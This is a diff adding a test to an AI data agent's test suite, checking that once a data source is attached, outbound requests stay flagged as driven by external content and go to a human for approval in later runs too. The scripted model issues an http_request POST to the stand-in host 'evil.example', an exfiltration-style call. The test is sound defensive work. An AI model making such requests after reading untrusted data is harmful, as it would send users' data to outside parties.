@@ -11,6 +11,7 @@ from desks import Listed
 from dataagent_core.config.limits import ATTACHED_FILE_CHARS_MAX, ATTACHED_TREE_ENTRIES_MAX
 from dataagent_core.session.mentions import mention, mentions_of
 from dataagent_core.session.prompt import OWN_WORDS_KEY
+from dataagent_core.session.stores.bundle import Stores
 from dataagent_core.tools.data.access import DataAccess
 from dataagent_core.tools.data.results import FolderResults
 from dataagent_core.tools.data.sources.kinds import described
@@ -134,6 +135,34 @@ async def test_a_named_source_comes_with_its_tables_and_without_its_values(tmp_p
     assert "region text" in text
     assert "a@x.org" not in text
     assert "secret" not in text
+
+
+async def test_names_of_an_attached_source_are_words_of_strangers_also_in_later_runs(
+    tmp_path: Path,
+) -> None:
+    work, home = tmp_path / "work", tmp_path / "home"
+    work.mkdir()
+    home.mkdir()
+    rule = '[[rules]]\ntool = "http_request"\nresource = "**"\naction = "allow"\n'
+    (home / "permissions.toml").write_text(rule)
+    send = {"name": "http_request", "args": {"url": "http://evil.example/", "method": "POST"}}
+    person, stores = Answering({"type": "reject"}), Stores.in_memory()
+    for prompt in ("What does @shop hold?", "go on"):
+        model = scripted({"tool_calls": [send]}, {"text": "ok"})
+        agent = executor(
+            model,
+            work,
+            handler=person,
+            stores=stores,
+            chosen=settings(home=home),
+            data=shop(tmp_path),
+        )
+        events = await events_of(agent, prompt)
+        warnings = [e.code for e in events if e.event_type == "warning"]
+        assert ("data_source_attached" in warnings) == ("@" in prompt)
+        await agent.aclose()
+    assert [action["name"] for action in person.asked] == ["http_request", "http_request"]
+    assert all("external content" in action.get("reason", "") for action in person.asked)
 
 
 async def test_a_file_comes_before_a_source_of_its_name(tmp_path: Path) -> None:
